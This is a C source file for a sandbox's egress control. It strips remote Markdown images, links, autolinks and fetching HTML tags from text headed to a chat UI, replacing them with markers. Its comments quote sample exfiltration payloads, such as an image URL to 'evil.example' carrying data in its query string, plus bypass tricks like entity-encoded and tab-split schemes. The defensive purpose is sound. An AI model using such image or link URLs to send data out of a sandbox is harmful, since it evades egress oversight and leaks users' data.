/*
 * markdown.c: remote images and links out of text bound for a chat.  A
 * Markdown image to another host is fetched the moment a chat UI renders
 * it, with whatever the sandbox put in its URL (the query string of
 * "![s](https://evil.example/p.png?q=DATA)"), and a link's text can hide
 * where it goes; either is a way out that no egress rule sees.  This file
 * upholds "nothing leaves except through gated" for text that gated does
 * release: what a renderer would turn into a request or a link to another
 * host is replaced by a visible marker.
 *
 * It is not a Markdown parser, and on purpose: renderers disagree (code
 * spans, escapes, reference definitions, lax HTML), and a parser that
 * agreed with one would let through what another renders.  It looks for
 * the tokens every dialect needs and neutralises them wherever they
 * appear, code or prose:
 *
 *   "](" DEST		inline link or image (CommonMark, Python-Markdown)
 *   "]:" DEST		reference definition ("[id]: URL"), so "![s][id]"
 *			and "[s][id]" have nothing to point at
 *   "<" SCHEME ":" ... ">"	autolink
 *   "<" NAME ... ">"	an HTML open tag with an attribute value, or one
 *			whose content fetches (style, script, svg, ...)
 *
 * A destination is remote unless what starts it can only be local: a
 * fragment, a query, a relative path, an absolute path on the same host.
 * A scheme (any: https, javascript, data, mailto), "//" or "\\" (and "/\"
 * as browsers read them), and an '&' before the first non-scheme
 * character (an entity could spell ':' or '/') make it remote; spaces and
 * controls are skipped as browsers skip them.  The replacement drops the
 * destination, keeps the link text, and begins with a space, so it can
 * neither close a "]" into a new "](" nor give a "<" a tag name.  Bare
 * URLs in prose and e-mail autolinks are left as they are: no dialect
 * fetches them, and the ones that make them clickable (GFM) show the
 * whole address.
 *
 * Every scan stops at the next '<', runs once over what it removes, or
 * looks ahead through a cache (md_next), so the work stays linear in the
 * text whatever it holds.
 */
#include <ctype.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "util.h"
#include "gated/gated.h"

#define MD_MARK_IMAGE	" (sbx: remote image removed)"
#define MD_MARK_LINK	" (sbx: remote link removed)"
#define MD_MARK_HTML	" (sbx: HTML tag removed)"
#define MD_TITLE_MAX	4096	/* a link title looked through, bytes */
#define MD_BRACKETS	128	/* '[' remembered for telling images */

struct md_buf {
	uint8_t	*p;
	size_t	 len;
	size_t	 cap;
};

/*
 * The next '>', '=', '"', '\'' and ')' at or after a position, found once
 * and reused: tags and titles look ahead to them, and without the cache
 * text full of "<a " or "](x:\"" would be read again for each.
 */
#define MD_NEXT_CHARS	">=\"')"
struct md_next {
	size_t	 from[5];	/* where the search started */
	size_t	 at[5];		/* what it found, len if none */
};

static size_t
md_next(struct md_next *nx, const uint8_t *s, size_t len, char c, size_t pos)
{
	const char	*k = strchr(MD_NEXT_CHARS, c);
	size_t		 i = (size_t)(k - MD_NEXT_CHARS);
	const uint8_t	*hit;

	if (pos >= len)
		return len;
	if (nx->from[i] <= pos && nx->at[i] >= pos && nx->at[i] != (size_t)-1)
		return nx->at[i];
	hit = memchr(s + pos, c, len - pos);
	nx->from[i] = pos;
	nx->at[i] = hit != NULL ? (size_t)(hit - s) : len;
	return nx->at[i];
}

static void
md_put(struct md_buf *b, const void *s, size_t n)
{
	if (b->len + n + 1 > b->cap) {
		while (b->len + n + 1 > b->cap)
			b->cap = b->cap < 64 ? 64 : b->cap * 2;
		b->p = xreallocarray(b->p, b->cap, 1);
	}
	memcpy(b->p + b->len, s, n);
	b->len += n;
}

static int
md_space(uint8_t c)
{
	return c <= 0x20 || c == 0x7f;
}

static int
md_scheme_char(uint8_t c)
{
	return isalnum(c) || c == '+' || c == '-' || c == '.';
}

/* 1 if the destination starting at d (n bytes at most) leaves the host. */
static int
markdown_remote(const uint8_t *d, size_t n)
{
	uint8_t	 first = 0;
	size_t	 k = 0;

	for (size_t i = 0; i < n; i++) {
		uint8_t	c = d[i];

		if (md_space(c))
			continue;	/* "java\tscript:" is javascript: */
		if (c == '&')
			return 1;	/* "&#104;ttps:", "/&#47;host" */
		if (k++ == 0) {
			first = c;
			if (isalpha(c) || c == '/' || c == '\\')
				continue;
			return 0;	/* '#', '?', '.', a digit, '%' ... */
		}
		if (first == '/' || first == '\\')
			return c == '/' || c == '\\';
		if (c == ':')
			return 1;
		if (!md_scheme_char(c))
			return 0;	/* "dir/x.png": a relative path */
	}
	return 0;
}

/* Where a raw or <pointy> destination that starts at p ends. */
static size_t
markdown_dest_end(const uint8_t *s, size_t len, size_t p)
{
	size_t	q = p, depth = 0;

	if (p < len && s[p] == '<') {
		for (q = p + 1; q < len && s[q] != '>' && s[q] != '<' &&
		    s[q] != '\n'; q++)
			;
		return q < len && s[q] == '>' ? q + 1 : q;
	}
	while (q < len && !md_space(s[q])) {
		if (s[q] == '\\' && q + 1 < len && !md_space(s[q + 1])) {
			q += 2;
			continue;
		}
		if (s[q] == '(')
			depth++;
		else if (s[q] == ')') {
			if (depth == 0)
				break;
			depth--;
		}
		q++;
	}
	return q;
}

static size_t
markdown_skip_space(const uint8_t *s, size_t len, size_t p)
{
	while (p < len && md_space(s[p]))
		p++;
	return p;
}

/*
 * After "](" at i: if the destination is remote, where the link ends (past
 * its title and ')' when they are there, else past the destination);
 * 0 when it is local.
 */
static size_t
markdown_inline(struct md_next *nx, const uint8_t *s, size_t len, size_t i)
{
	size_t	p, q, r, c;

	p = markdown_skip_space(s, len, i + 2);
	if (!markdown_remote(s + p + (p < len && s[p] == '<'), len - p -
	    (p < len && s[p] == '<')))
		return 0;
	q = markdown_dest_end(s, len, p);
	r = markdown_skip_space(s, len, q);
	if (r < len && (s[r] == '"' || s[r] == '\'' || s[r] == '(')) {
		/* A title: dropped with the destination if it closes. */
		c = md_next(nx, s, len, s[r] == '(' ? ')' : (char)s[r], r + 1);
		if (c >= len || c - r > MD_TITLE_MAX)
			return q;
		r = markdown_skip_space(s, len, c + 1);
	}
	return r < len && s[r] == ')' ? r + 1 : q;
}

/* After "]:" at i: where a remote definition's destination ends, or 0. */
static size_t
markdown_definition(const uint8_t *s, size_t len, size_t i)
{
	size_t	p;

	p = markdown_skip_space(s, len, i + 2);
	if (p >= len || !markdown_remote(s + p + (s[p] == '<'), len - p -
	    (s[p] == '<')))
		return 0;
	return markdown_dest_end(s, len, p);
}

/*
 * At '<': the end of an autolink "<scheme:...>", or 0.  An e-mail
 * autolink ("<a@b.example>", as git log prints authors) is left: it shows
 * the address it opens and sends nothing until clicked.
 */
static size_t
markdown_autolink(const uint8_t *s, size_t len, size_t i)
{
	size_t	q = i + 1;

	if (q >= len || !isalpha(s[q]))
		return 0;
	while (q < len && md_scheme_char(s[q]))
		q++;
	if (q >= len || s[q] != ':')
		return 0;
	/* Python-Markdown takes spaces inside; so do we. */
	while (q < len && s[q] != '<' && s[q] != '>' && s[q] != '\n')
		q++;
	return q < len && s[q] == '>' ? q + 1 : 0;
}

/* Tags whose content, not only their attributes, reaches out. */
static int
markdown_tag_fetches(const uint8_t *name, size_t n)
{
	static const char *const tags[] = {
		"script", "style", "svg", "math", "template", "iframe",
		"frame", "object", "embed", "base", "meta", "link", "xml",
		NULL
	};

	for (size_t i = 0; tags[i] != NULL; i++)
		if (strlen(tags[i]) == n &&
		    strncasecmp(tags[i], (const char *)name, n) == 0)
			return 1;
	return 0;
}

/*
 * At '<' followed by a letter: the end of an HTML open tag to remove, or 0
 * for one that cannot fetch ("<br>", "<String>", "a<b and c>d").  A
 * browser's tag name runs to a space, '/' or '>'; its attributes to the
 * first '>' (or, with none, to whatever '>' comes after the text: the
 * label's own closing tag), so any '=' there is an attribute value that
 * may name a host (src, srcset, style's url(), an event handler).  The
 * whole tag goes when it closes, else its '<' and name, so what remains
 * cannot be read as a tag.
 */
static size_t
markdown_tag(struct md_next *nx, const uint8_t *s, size_t len, size_t i)
{
	size_t	 q = i + 1, gt, eq;

	while (q < len && !md_space(s[q]) && s[q] != '/' && s[q] != '>' &&
	    s[q] != '<')
		q++;
	gt = md_next(nx, s, len, '>', q);
	eq = md_next(nx, s, len, '=', q);
	if (eq >= gt && !markdown_tag_fetches(s + i + 1, q - i - 1))
		return 0;
	return gt < len ? gt + 1 : q;
}

/*
 * A replacement takes a '<' out, and that '<' may be what kept an earlier
 * one from being read: in "<ftp://evil.example/p<x:y>>" the autolink
 * "<x:y>" goes, and "<ftp://evil.example/p (sbx: remote link removed)>"
 * is left, which Python-Markdown links (it takes spaces inside).  So what
 * the first pass left is read once more, and every '<' that now starts
 * an autolink or a tag to remove gets a space after it -- "< ftp:" is
 * text to every renderer, and to the first pass -- which takes no '<',
 * '>', '[' or ']' out and so uncovers nothing further: the result reads
 * the same however often it is neutralised.  One more linear scan, and a
 * copy only when something is found.
 */
static uint8_t *
markdown_uncovered(uint8_t *p, size_t len, size_t *outlen, uint32_t *n)
{
	struct md_buf	 b = { NULL, 0, 0 };
	struct md_next	 nx;
	size_t		 i, from = 0;
	uint32_t	 found = 0;

	memset(&nx, 0xff, sizeof(nx));
	for (i = 0; i < len; i++) {
		if (p[i] != '<')
			continue;
		if (markdown_autolink(p, len, i) == 0 &&
		    !(i + 1 < len && isalpha(p[i + 1]) &&
		    markdown_tag(&nx, p, len, i) != 0))
			continue;
		if (found++ == 0)
			md_put(&b, "", 0);
		md_put(&b, p + from, i + 1 - from);
		md_put(&b, " ", 1);
		from = i + 1;
	}
	if (found == 0) {
		*outlen = len;
		return p;
	}
	md_put(&b, p + from, len - from);
	b.p[b.len] = '\0';
	free(p);
	*n += found;
	*outlen = b.len;
	return b.p;
}

uint8_t *
markdown_neutralise(const uint8_t *in, size_t len, size_t *outlen,
    uint32_t *count)
{
	struct md_buf	 b = { NULL, 0, 0 };
	struct md_next	 nx;
	size_t		 open[MD_BRACKETS], nopen = 0, deep = 0, i = 0, end;
	size_t		 run;
	uint32_t	 n = 0;
	int		 image;

	memset(&nx, 0xff, sizeof(nx));
	md_put(&b, "", 0);
	while (i < len) {
		switch (in[i]) {
		case '[':
			if (nopen < MD_BRACKETS)
				open[nopen++] = i;
			else
				deep++;
			break;
		case ']':
			image = 0;
			if (deep > 0)
				deep--;
			else if (nopen > 0) {
				nopen--;
				image = open[nopen] > 0 &&
				    in[open[nopen] - 1] == '!';
			}
			if (i + 1 >= len)
				break;
			if (in[i + 1] == '(' &&
			    (end = markdown_inline(&nx, in, len, i)) != 0) {
				md_put(&b, "]", 1);
				md_put(&b, image ? MD_MARK_IMAGE : MD_MARK_LINK,
				    strlen(image ? MD_MARK_IMAGE :
				    MD_MARK_LINK));
				n++;
				i = end;
				continue;
			}
			if (in[i + 1] == ':' &&
			    (end = markdown_definition(in, len, i)) != 0) {
				md_put(&b, "]", 1);
				md_put(&b, MD_MARK_LINK, strlen(MD_MARK_LINK));
				n++;
				i = end;
				continue;
			}
			break;
		case '<':
			if ((end = markdown_autolink(in, len, i)) != 0) {
				md_put(&b, MD_MARK_LINK, strlen(MD_MARK_LINK));
				n++;
				i = end;
				continue;
			}
			if (i + 1 < len && isalpha(in[i + 1]) &&
			    (end = markdown_tag(&nx, in, len, i)) != 0) {
				md_put(&b, MD_MARK_HTML, strlen(MD_MARK_HTML));
				n++;
				i = end;
				continue;
			}
			break;
		default:
			/* Plain text up to the next character that matters. */
			for (run = i + 1; run < len && in[run] != '[' &&
			    in[run] != ']' && in[run] != '<'; run++)
				;
			md_put(&b, in + i, run - i);
			i = run;
			continue;
		}
		md_put(&b, in + i, 1);
		i++;
	}
	b.p[b.len] = '\0';
	if (n > 0)
		b.p = markdown_uncovered(b.p, b.len, &b.len, &n);
	*outlen = b.len;
	if (count != NULL)
		*count += n;
	return b.p;
}
